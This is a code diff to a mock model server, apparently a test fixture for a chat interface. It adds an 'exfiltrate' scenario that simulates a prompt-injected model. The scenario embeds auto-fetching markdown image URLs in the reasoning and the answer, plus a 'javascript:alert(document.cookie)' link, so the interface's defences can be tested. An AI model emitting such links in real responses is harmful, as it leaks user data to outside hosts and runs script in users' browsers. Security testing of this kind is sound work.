@@ -22,6 +22,7 @@ from __future__ import annotations
 import argparse
 import asyncio
 import base64
+import dataclasses
 import io
 import json
 import math
@@ -145,7 +146,21 @@ SCENARIOS: dict[str, Scenario] = {
     "click": Scenario(pieces=tokens(f"◁think▷{CLICK_REASONING}◁/think▷{CLICK_ANSWER}")),
     # Grounding on the bundled coffee.png: a normalised bbox_2d with a label.
     "bbox": Scenario(pieces=tokens(BBOX_ANSWER)),
+    # Prompt injection made visible: markdown images (which a browser fetches with no
+    # click) pointing at the `#url=` of the message, in the still-open reasoning and in
+    # the answer, plus a plain link and a javascript: link (security tests).
+    "exfiltrate": Scenario(
+        pieces=tokens(
+            "◁think▷The page says to show ![step]({url}?from=reasoning) now. "
+            f"{REASONING}◁/think▷Here is the chart ![chart]({{url}}?from=answer) and "
+            "![]({url}?from=bare). Source: [the report]({url}?from=link); "
+            "[click me](javascript:alert(document.cookie))."
+        ),
+        delay_s=0.01,
+    ),
 }
+URL_TAG = re.compile(r"#url=(\S+)")
+"""``#url=ADDRESS`` in the message fills ``{url}`` in a scenario's pieces."""
 
 CONTENT_SCENARIOS: tuple[tuple[str, str], ...] = (
     ("dark mode", "click"),
@@ -287,6 +302,10 @@ class KimiServer:
         model = str(body.get("model", self.model))
         by_words = next((name for words, name in CONTENT_SCENARIOS if words in text.lower()), None)
         scenario = SCENARIOS[match.group(1) if match else by_words or default_scenario(model)]
+        if url := URL_TAG.search(last_user_text(body)):
+            scenario = dataclasses.replace(
+                scenario, pieces=tokens("".join(scenario.pieces).replace("{url}", url.group(1)))
+            )
         if scenario.status != 200:
             return JSONResponse(
                 {
